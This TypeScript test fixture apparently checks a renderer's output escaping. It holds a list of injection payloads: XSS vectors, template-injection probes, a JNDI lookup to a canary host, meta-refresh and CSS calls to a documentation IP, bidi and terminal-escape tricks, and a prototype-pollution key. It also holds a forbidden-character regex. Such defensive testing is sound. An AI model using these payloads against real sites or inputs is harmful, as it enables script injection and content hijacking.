/** Strings that an attacker can put into a log, each with a way of its own to leave the place where it is printed. */
export const HOSTILE_STRINGS: readonly string[] = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "a=1' onmouseover='alert(1)",
  '</title><meta http-equiv=refresh content="0;url=http://192.0.2.9/">',
  '</style><style>*{display:none;background:url(http://192.0.2.9/)}',
  '</script><svg onload=alert(1)>',
  '<iframe src="file:///etc/hostname">',
  '--><img src=x onerror=alert(1)><!--',
  '/x` onfocus=alert(1) autofocus `',
  '{{constructor.constructor("return 1")()}}{{{raw}}}{{> layout}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template of somebody else's language
  '${7*7}<%=7*7%>#{7*7}${jndi:ldap://canary.example/a}',
  'javascript:alert(document.domain)',
  'data:text/html,<script>alert(1)</script>',
  ']]></text><a xlink:href="javascript:alert(1)"><text>',
  'Mozilla/5.0 \u202Egnp.exe\u2066\u2069\u200F',
  'exa\u200Bmple.example\uFEFF\u{E0041}',
  'abc\u0000def\u0007\b\u007F\u009B31m\u001B[2J\u001B]8;;http://192.0.2.9\u0007',
  'x\r\n\u2028alert(1)\u2029',
  '\uD800 \uDC00',
  '";}@page{@top-left{content:"owned"}}\\22 \\a',
  '/JavaScript (alert) /Launch endobj stream (node00000001)',
  '__proto__',
  '&lt;b&gt; &#x3c;i&#x3e; &amp;',
  '‹U+202E›',
  'A'.repeat(8_000),
];

/** Code points that must not reach a reader: control, bidi, zero-width, tags, lone surrogates. */
export const FORBIDDEN_CHARACTERS =
  // biome-ignore lint/suspicious/noControlCharactersInRegex: they are what is looked for
  /[\u0000-\u0008\u000B\u000C\u000E-\u001F\u007F-\u009F\u200B-\u200F\u2028-\u202E\u2060-\u2069\uFEFF\u{E0000}-\u{E007F}\uD800-\uDFFF]/u;

/**
 * A copy of `value` in which every string that `isText` accepts is replaced. The path is that of the keys, such as
 * `cover.tiles.0.label`.
 */
export function replaceStrings<T>(value: T, replace: (text: string, path: string) => string, path = ''): T {
  const visit = (item: unknown, at: string): unknown => {
    if (typeof item === 'string') return replace(item, at);
    if (Array.isArray(item)) return item.map((child, i) => visit(child, `${at}.${i}`));
    if (item !== null && typeof item === 'object')
      return Object.fromEntries(Object.entries(item).map(([key, child]) => [key, visit(child, `${at}.${key}`)]));
    return item;
  };
  return visit(value, path) as T; // same shape: only strings were exchanged for strings
}

/** Strings of a model that choose between our own alternatives and therefore never come from input. */
export const CLOSED_VOCABULARY =
  /\.(kind|form|role|tone|unit|align|state|tlp|audience|paper|timeZone|locale|actor|basis)$|\.(chart|data)\./;
